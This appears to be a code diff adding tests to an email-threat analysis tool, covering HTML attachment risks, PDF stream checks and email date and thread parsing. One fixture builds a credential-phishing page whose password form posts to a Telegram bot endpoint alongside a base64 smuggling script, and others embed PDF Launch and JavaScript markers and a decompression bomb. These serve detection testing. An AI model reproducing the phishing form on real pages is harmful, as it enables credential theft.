@@ -1,3 +1,4 @@
+import base64
 import gzip
 import io
 import lzma
@@ -9,7 +10,7 @@ import zlib
 import pytest
 from pyspark.sql import functions as F
 
-from vellum.operators import containers, language, thread
+from vellum.operators import containers, content, language, thread
 from vellum.plans import analysis
 from vellum.sources import archives, mail, sevenzip
 
@@ -153,6 +154,40 @@ def test_containers(spark):
     assert [t for t, _ in locked.risks] == ["pdf-javascript", "pdf-launch"] and locked.links == ["http://a.test"]
 
 
+def test_html_findings_reach_the_verdict(spark):
+    page = b"<form action='https://api.telegram.org/bot1/sendMessage'><input type=password></form><script>x = atob('" + base64.b64encode(bytes(range(128, 250)) * 2) + b"')</script>"
+    raw = BAD.replace(b"application/pdf; name=\"invoice.pdf\"", b"text/html; name=\"a.html\"").replace(b"invoice.pdf", b"a.html").replace(b"TVqQAAMAAAA=", base64.b64encode(page))
+    got = analysis.analyse(mail.read_messages(frame(spark, GOOD, raw)), language.default_dictionary(spark)).collect()
+    good, bad = sorted(got, key=lambda r: r["message_id"])
+    assert good["tier"] == "Low Risk" and good["auth_overall"]["level"] == "pass"
+    assert bad["tier"] == "High Risk" and bad["auth_overall"]["level"] == "fail" and bad["iocs"] > good["iocs"]
+    core = mail.core(mail.read_messages(frame(spark, raw)))
+    risks = analysis.hidden_risks(mail.read_messages(frame(spark, raw)), core).first()["page_risks"]
+    assert {r["type"] for r in risks} == {"login-form", "smuggled-file"}
+    sent = analysis.page_destinations(mail.read_messages(frame(spark, raw)), core).where("sending").collect()
+    assert [r["value"] for r in sent] == ["https://api.telegram.org/bot1/sendMessage"]
+
+
+def test_pdf_streams():
+    deflated = lambda text: b"obj << /Filter /FlateDecode >>\nstream\n" + zlib.compress(text) + b"\nendstream\nendobj\n"
+    late = b"%PDF-1.4\n" + deflated(b"nothing") * 60 + deflated(b"<< /S /Launch >>")
+    assert [k for k, _ in content.pdf_risks(late)[0]] == ["pdf-launch"]
+    assert content.pdf_risks(b"%PDF-1.4\n" + deflated(b"x") * 80 + deflated(b"/Launch "))[0] == []
+    assert [k for k, _ in content.pdf_risks(b"%PDF\n<< /Java#53cript (a) >> (#2FLaunch)")[0]] == ["pdf-javascript"]
+    bomb = content.pdf_text(b"%PDF\n" + deflated(b"a" * 1_000_000) * 20, most=3_000_000)
+    assert bomb.count("a") < 3_100_000
+
+
+def test_dates_and_blocks():
+    day = lambda text: (thread.claimed_date(text) or {}).get("ts")
+    assert day("Mon, Jan 15, 2024 at 12:30 PM") == day("15 January 2024 12:30") == 1705321800 and day("Jan 15, 2024 12:05 am") == 1705277100
+    assert day("15/01/2024") is None and day("January 2024") is None and thread.claimed_date("Friday, 30 February 2024") == {"valid": False, "ts": None, "weekday_claimed": 5, "weekday_actual": None}
+    text = "-----Original Message-----\nVon: Anna <anna@a.test>\nGesendet: Montag\n\nBetreff: Hallo\nAn: b\nVon: again\n\n> Le 3 mars 2024, Jean <jean@b.test>\n> a écrit :\nno one wrote:"
+    got = thread.quoted(text)
+    assert got["separators"] == 1 and [(m["style"], m["email"], m["subject"]) for m in got["messages"]] == [("header block", "anna@a.test", "Hallo"), ("attribution line", "jean@b.test", None)]
+    assert got["messages"][1]["date"] == "3 mars 2024" and thread.quoted(None) == {"separators": 0, "messages": []}
+
+
 def test_thread():
     got = thread.quoted("Hi\n\nFrom: Bob <bob@acme.test>\nSent: Monday, January 16, 2024 10:00 AM\nTo: x\nSubject: Pay\n\nok\n> On Tue, Jan 9, 2024 at 9:05 AM Ann <ann@acme.test> wrote:\n> fine")
     assert [(m["style"], m["email"], m["weekday_claimed"], m["weekday_actual"]) for m in got["messages"]] == [("header block", "bob@acme.test", 1, 2), ("attribution line", "ann@acme.test", 2, 2)]
